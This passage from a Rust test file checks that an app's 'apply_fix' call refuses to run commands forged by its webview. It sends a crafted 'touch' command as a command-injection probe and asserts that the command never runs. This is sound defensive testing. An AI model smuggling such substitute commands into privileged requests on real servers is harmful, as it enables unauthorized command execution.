    let firewall = finding_of(&doctor_findings(&t, &path), "server.firewalld_port_closed");
    assert_eq!(firewall["auto_fix"]["action"]["kind"], "run_on_server");
    let before = snapshot(dir.path());

    // The server and this machine share /tmp: a command of the webview's own would leave this.
    let marker = std::env::temp_dir().join(format!("ferry-app-crafted-{}", std::process::id()));
    let touch = marker.display().to_string();
    let crafted = json!([{ "argv": ["touch", touch], "shell": format!("touch {touch}") }]);
    let applied = t.invoke(
        "apply_fix",
        json!({
            "configPath": path,
            "id": "server.firewalld_port_closed",
            "digest": firewall["auto_fix"]["digest"],
            "trustHostKey": null,
            "fix": { "label": firewall["auto_fix"]["label"],
                     "action": { "kind": "run_on_server", "commands": crafted } },
            "commands": crafted,
        }),
    );
    assert_eq!(applied, Ok(firewall["auto_fix"]["label"].clone()));
    assert!(standin_firewall_opens(&tb, "runtime", port));
    assert!(standin_firewall_opens(&tb, "permanent", port));
    assert!(
        !marker.exists(),
        "the server ran a command it was not meant to"
    );
    assert_eq!(snapshot(dir.path()), before, "a server fix writes no file");
    close_in_standin_firewall(&tb, port);
}

/// The body of `GET /` from the deployed app.
fn http_get(host: &str, port: u16) -> String {
    use std::io::{Read, Write};
    let mut conn = std::net::TcpStream::connect((host, port)).unwrap();
    conn.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    conn.write_all(b"GET / HTTP/1.0\r\n\r\n").unwrap();
    let mut answer = String::new();
    conn.read_to_string(&mut answer).unwrap();
    let (head, body) = answer.split_once("\r\n\r\n").unwrap();
    assert!(
        head.starts_with("HTTP/1.0 200") || head.starts_with("HTTP/1.1 200"),
        "{head}"
    );
    body.trim_end().to_string()
}
